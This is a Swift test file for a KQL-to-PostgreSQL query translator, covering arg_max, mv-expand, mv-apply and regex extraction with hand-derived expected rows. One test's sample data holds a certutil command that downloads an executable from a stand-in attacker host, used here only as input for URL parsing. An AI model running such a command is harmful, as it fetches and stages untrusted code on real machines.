import SpoorPostgres
import SpoorTestSupport
import Testing

/// `arg_max` beside other aggregates, multi-column `mv-expand`, `mv-apply` and mixed-greediness
/// `parse kind=regex`, run on PostgreSQL over inline rows; every expected row is derived by hand from Kusto's
/// documented semantics.
@Suite("KQL tabular gaps", .serialized)
struct KQLTabularGapTests {
  /// The clock every query is emitted with: 2026-01-01T00:00:00Z.
  static let now: Int64 = 1_767_225_600_000_000

  /// Events of three accounts: `a` has a tie on its largest `T` (ReportIds 2 and 3), `b` a null `T`, `c` only a
  /// null `T`.
  static let events = """
    datatable(ReportId:long, Account:string, T:long, File:string, Device:string)[
      1, 'a', 5, 'f1', 'd1',
      3, 'a', 9, 'f3', 'd2',
      2, 'a', 9, 'f2', 'd1',
      4, 'b', 1, 'f4', 'd3',
      5, 'b', long(null), 'f5', 'd3',
      6, 'c', long(null), 'f6', 'd4']
    """

  let connection: Connection

  init() throws {
    connection = try Connection(
      configuration: try TestDatabase.makeDatabase(named: "kql_tabular_gaps"))
  }

  /// Translates and runs a query; returns the column names and the rows as text cells.
  func run(_ kql: String) throws -> (columns: [String], rows: [[String?]]) {
    try TranslationHarness.run(kql, language: .kql, now: Self.now, on: connection)
  }

  // MARK: arg_max / arg_min beside other aggregates

  @Test func argMaxBesideCountAndDcount() throws {
    let result = try run(
      Self.events
        + " | summarize arg_max(T, File), count(), dcount(Device) by Account | sort by Account asc")
    #expect(result.columns == ["Account", "T", "File", "count_", "dcount_Device"])
    // a: T 9 is tied (ReportIds 3 and 2): the lowest ReportId wins. b: the null T is never the largest.
    // c: every T is null, so its one row is chosen.
    #expect(
      result.rows == [["a", "9", "f2", "3", "2"], ["b", "1", "f4", "2", "1"], ["c", nil, "f6", "1", "1"]])
  }

  @Test func argMinAndArgMaxInOneSummarize() throws {
    let result = try run(
      Self.events
        + " | summarize arg_min(T, File), arg_max(T, File), n = count() by Account | sort by Account asc")
    // The second pair's names clash with the first's and get Kusto's numeric suffix.
    #expect(result.columns == ["Account", "T", "File", "T1", "File1", "n"])
    #expect(
      result.rows == [
        ["a", "5", "f1", "9", "f2", "3"], ["b", "1", "f4", "1", "f4", "2"], ["c", nil, "f6", nil, "f6", "1"],
      ])
  }

  @Test func argMaxStarBesideCount() throws {
    let result = try run(
      Self.events + " | summarize arg_max(T, *), count() by Account | sort by Account asc")
    #expect(result.columns == ["Account", "T", "ReportId", "File", "Device", "count_"])
    #expect(
      result.rows == [
        ["a", "9", "2", "f2", "d1", "3"], ["b", "1", "4", "f4", "d3", "2"], ["c", nil, "6", "f6", "d4", "1"],
      ])
  }

  @Test func argMaxBesideCountWithoutKeysOnNoRows() throws {
    let result = try run(
      Self.events + " | where T > 100 | summarize arg_max(T, ReportId), count(), Total = sum(T)")
    #expect(result.columns == ["T", "ReportId", "count_", "Total"])
    #expect(result.rows == [[nil, nil, "0", "0"]])
  }

  // MARK: mv-expand of several columns

  /// Arrays of different lengths, two empty arrays, an empty beside a non-empty one, a null beside an array.
  static let arrays = """
    datatable(k:string, a:dynamic, b:dynamic)[
      'x', dynamic([1, 2, 3]), dynamic(['p', 'q']),
      'y', dynamic([]), dynamic([]),
      'z', dynamic([]), dynamic(['only']),
      'w', dynamic(null), dynamic([7, 8])]
    """

  @Test func mvExpandZipsColumnsPaddingTheShorterWithNull() throws {
    let result = try run(
      Self.arrays
        + " | mv-expand with_itemindex=i a, b to typeof(string) | sort by k asc, i asc | project k, a, b, i")
    #expect(result.columns == ["k", "a", "b", "i"])
    // w: the null is one null element beside 7 and 8. y: both empty, no row. z: the empty array pads with null.
    #expect(
      result.rows == [
        ["w", nil, "7", "0"], ["w", nil, "8", "1"],
        ["x", "1", "p", "0"], ["x", "2", "q", "1"], ["x", "3", nil, "2"],
        ["z", nil, "only", "0"],
      ])
  }

  @Test func mvExpandOfAComputedArrayBesideAColumn() throws {
    let result = try run(
      "datatable(s:string, n:dynamic)['a,b', dynamic([10])]"
        + " | mv-expand p = split(s, ','), n to typeof(long) | project s, n, p")
    #expect(result.columns == ["s", "n", "p"])
    #expect(result.rows == [["a,b", "10", #""a""#], ["a,b", nil, #""b""#]])
  }

  @Test func mvExpandRowLimitKeepsTheFirstPositions() throws {
    let single = try run(Self.numbers + " | mv-expand arr limit 2 | sort by k asc | project k, arr")
    // x keeps 1 and 5 (its first two elements), w both, y none, z its one null.
    #expect(single.rows == [["w", "0"], ["w", "2"], ["x", "1"], ["x", "5"], ["z", nil]])
    let zipped = try run(
      Self.arrays + " | mv-expand with_itemindex=i a, b limit 1 | sort by k asc | project k, a, b, i")
    #expect(zipped.rows == [["w", nil, "7", "0"], ["x", "1", #""p""#, "0"], ["z", nil, #""only""#, "0"]])
  }

  @Test func mvExpandKindArrayGivesKeyValueArrays() throws {
    let result = try run(
      "datatable(k:string, a:dynamic)['x', dynamic({'p': 1, 'q': 'two'}), 'y', dynamic({}), 'z', dynamic([3])]"
        + " | mv-expand kind=array a | sort by k asc, tostring(a) asc | project k, a")
    #expect(result.rows == [["x", #"["p", 1]"#], ["x", #"["q", "two"]"#], ["z", "3"]])
  }

  // MARK: mv-apply

  /// Arrays of numbers: `y` is empty, `z` is null.
  static let numbers = """
    datatable(k:string, arr:dynamic)[
      'x', dynamic([1, 5, 3]),
      'y', dynamic([]),
      'z', dynamic(null),
      'w', dynamic([0, 2])]
    """

  @Test func mvApplyFilterAndSummarizePerRow() throws {
    let result = try run(
      Self.numbers
        + " | mv-apply v = arr to typeof(long) on (where v > 1 | summarize s = sum(v)) | sort by k asc")
    // The expanded column `arr` leaves the output. An ungrouped summarize gives one row even for an empty
    // subtable (y) or one whose null element is filtered out (z).
    #expect(result.columns == ["k", "s"])
    #expect(result.rows == [["w", "2"], ["x", "8"], ["y", "0"], ["z", "0"]])
  }

  @Test func mvApplyTopOnePerRow() throws {
    let result = try run(
      Self.numbers + " | mv-apply arr to typeof(long) on (top 1 by arr) | sort by k asc")
    // y's empty subtable gives no row; z's one null element is its top row.
    #expect(result.columns == ["k", "arr"])
    #expect(result.rows == [["w", "2"], ["x", "5"], ["z", nil]])
  }

  @Test func mvApplyOrderTakeWithItemIndex() throws {
    let result = try run(
      Self.numbers
        + " | mv-apply with_itemindex=i v = arr to typeof(long) on (order by v asc | take 2)"
        + " | sort by k asc, i asc | project k, v, i")
    #expect(
      result.rows == [
        ["w", "0", "0"], ["w", "2", "1"], ["x", "1", "0"], ["x", "3", "2"], ["z", nil, nil],
      ])
  }

  @Test func mvApplyExtendOverAComputedArray() throws {
    let result = try run(
      "datatable(s:string)['a,b,c', ''] | mv-apply p = split(s, ',') to typeof(string) on (extend u = toupper(p) | where p != 'b')"
        + " | sort by s asc, p asc")
    // The computed array is no input column: `s` stays. split('') is [''], one empty element.
    #expect(result.columns == ["s", "p", "u"])
    #expect(result.rows == [["", "", ""], ["a,b,c", "a", "A"], ["a,b,c", "c", "C"]])
  }

  @Test func mvApplyGroupedSummarizeAndRowLimit() throws {
    let grouped = try run(
      Self.numbers
        + " | mv-apply v = arr to typeof(long) on (summarize c = count() by odd = v % 2) | sort by k asc, odd asc")
    // Grouped: an empty subtable gives no row (y); z's null element forms a group of its own.
    #expect(grouped.columns == ["k", "odd", "c"])
    #expect(
      grouped.rows == [["w", "0", "2"], ["x", "1", "3"], ["z", nil, "1"]])
    let limited = try run(
      Self.numbers + " | mv-apply v = arr to typeof(long) limit 2 on (summarize s = sum(v)) | sort by k asc")
    // The limit keeps x's first two elements, 1 and 5.
    #expect(limited.rows == [["w", "2"], ["x", "6"], ["y", "0"], ["z", "0"]])
  }

  @Test func mvApplyRejectsOperatorsWithoutAPerRowMeaning() throws {
    let failure = #expect(throws: TranslationFailure.self) {
      try TranslationHarness.statement(
        Self.numbers + " | mv-apply v = arr on (getschema)", language: .kql, now: Self.now)
    }
    #expect(failure?.description.contains("'getschema' inside mv-apply") == true)
  }

  // MARK: Greedy and lazy quantifiers in one extraction

  @Test func extractTakesEachQuantifierWithItsOwnGreediness() throws {
    let result = try run(
      #"""
      print
        lazyAfterGreedy = extract(@"(\d+)x(.*?)y", 2, "12x ab y cy"),
        whole = extract(@"(\d+)x(.*?)y", 0, "12x ab y cy"),
        greedyAfterLazy = extract(@"(.*?)=(\d+)", 2, "a=123;b=4"),
        firstLazy = extract(@"(.*?)=(\d+)", 1, "a=123;b=4"),
        boundary = extract(@"\bb(\d+?)(\d*)", 1, "ab12 b345"),
        afterBoundary = extract(@"\bb(\d+?)(\d*)", 2, "ab12 b345"),
        noMatch = extract(@"(\d+)x(.*?)y", 1, "nothing")
      """#)
    // RE2 decides quantifier by quantifier: `.*?` stops at the first `y` after a greedy `\d+`, `\d+` takes every
    // digit after a lazy `.*?`, and `\b` still sees the `a` before the first `b`.
    #expect(result.rows == [[" ab ", "12x ab y", "123", "a", "3", "45", ""]])
  }

  @Test func parseKindRegexMixingGreedyAndLazy() throws {
    let result = try run(
      #"""
      datatable(line:string)["certutil -urlcache -f https://evil.example/p.exe p.exe", "http://a/b/c d", "no url"]
      | parse kind=regex line with @"https?://" Host:string "/" Path:string @"\s"
      | project Host, Path
      """#)
    // Each column is a lazy `(.*?)`, so Path stops at the first whitespace and Host at the first `/`; a row that
    // does not match gets empty strings.
    #expect(result.rows == [["evil.example", "p.exe"], ["a", "b/c"], ["", ""]])
  }

  @Test func extractStillRefusesAPieceMixingGreediness() throws {
    let failure = #expect(throws: TranslationFailure.self) {
      try TranslationHarness.statement(
        #"print x = extract(@"(a+?b*)c", 1, "aabc")"#, language: .kql, now: Self.now)
    }
    #expect(failure?.description.contains("greedy and lazy quantifiers") == true)
  }
}
